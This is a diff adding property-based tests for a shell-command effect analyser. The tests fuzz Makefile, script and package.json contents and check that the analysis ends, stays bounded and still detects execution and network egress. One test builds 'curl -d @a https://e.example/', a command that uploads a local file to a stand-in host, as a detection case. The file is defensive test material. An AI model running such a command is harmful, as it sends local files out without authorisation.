@@ -1,0 +1,63 @@
+"""Whatever a file holds, the analysis of who runs it ends, raises nothing, and takes it for code of the project."""
+
+from __future__ import annotations
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from lockgate.analysis.shell import analyse_shell
+from lockgate.model import EffectKind, Variant
+from support.projects import surroundings
+
+MAKE = (
+    "$( $(shell $(eval $(call $(foreach $(if ${ ) } , : :: = := ?= += != define endef ifeq ifneq ifdef else endif include "
+    "include -include $@ $$ $< % %.o .ONESHELL: SHELL .PHONY export override all x X make $(MAKE)"
+)
+SHELL = "; | & ' \" # if then fi for i in do done case esac { x() <<E E ./x"
+PIECES = [
+    *MAKE.split(), *SHELL.split(), "\t", "\n", "\\\n", " ", "\r", "\x00", "\x01", "ä", "git push", "curl https://e.example",
+    "bash x", "source x", "npm run x", "#!/bin/sh\n", "#!/usr/bin/env -S ", '{"scripts": {"x": "', '"}}',
+]  # fmt: skip
+TEXTS = st.lists(st.sampled_from(PIECES), max_size=40).map("".join) | st.text(max_size=80)
+SHELLS = ["bash x", "sh x", ". ./x", "./x"]
+WAYS = [*SHELLS, "python3 x", "make -f x", "make -f x all", "make", "npm run x", "yarn x", "sed -f x a", "awk -f x"]
+
+
+@given(text=TEXTS, way=st.sampled_from(WAYS))
+@settings(max_examples=600, deadline=None)
+def test_any_file_is_code_of_the_project(text, way):
+    files = {"x": text, "Makefile": text, "package.json": text}
+    analysis = analyse_shell(way, "/work/project", surroundings(files))
+    assert "shell:fault" not in {effect.rule for effect in analysis.effects}
+    assert not any("not all of it was followed" in effect.because for effect in analysis.effects)
+    assert EffectKind.EXECUTE in {effect.kind for effect in analysis.effects}
+    assert len(analysis.effects) < 100
+
+
+@given(text=TEXTS, way=st.sampled_from(SHELLS))
+@settings(max_examples=300, deadline=None)
+def test_a_file_takes_nothing_away_from_what_stands_beside_it(text, way):
+    command = f"{way}; curl -d @a https://e.example/"
+    analysis = analyse_shell(command, "/work/project", surroundings({"x": text}))
+    # After `source` a name can mean a function of the file, and still the program.
+    assert any(e.kind is EffectKind.EGRESS and e.variant is not Variant.SCRIPT for e in analysis.effects)
+
+
+def test_a_script_that_runs_itself_ends():
+    files = {"x": "bash x; bash x; bash x\n", "y": "#!/bin/sh -c\n", "Makefile": "all:\n\tmake all; make all\n"}
+    for way in ("bash x", "./y", "./x", "make", "source x"):
+        analysis = analyse_shell(way, "/work/project", surroundings(files))
+        assert {effect.kind for effect in analysis.effects} == {EffectKind.EXECUTE}
+
+
+def test_many_files_and_long_ones_are_bounded():
+    looped = "for i in a b c d e f; do bash y; done\n" * 40
+    files = {
+        "x": looped,
+        "y": "curl https://e.example/\n" * 400,
+        "Makefile": "A = $(A) $(B)\nB = $(A) $(A)\nall: ; $(B)\n" * 500,
+    }
+    for way in ("bash x", "make", "bash x; " * 50 + "true"):
+        analysis = analyse_shell(way, "/work/project", surroundings(files))
+        assert EffectKind.EXECUTE in {effect.kind for effect in analysis.effects}
+        assert len(analysis.effects) < 2000
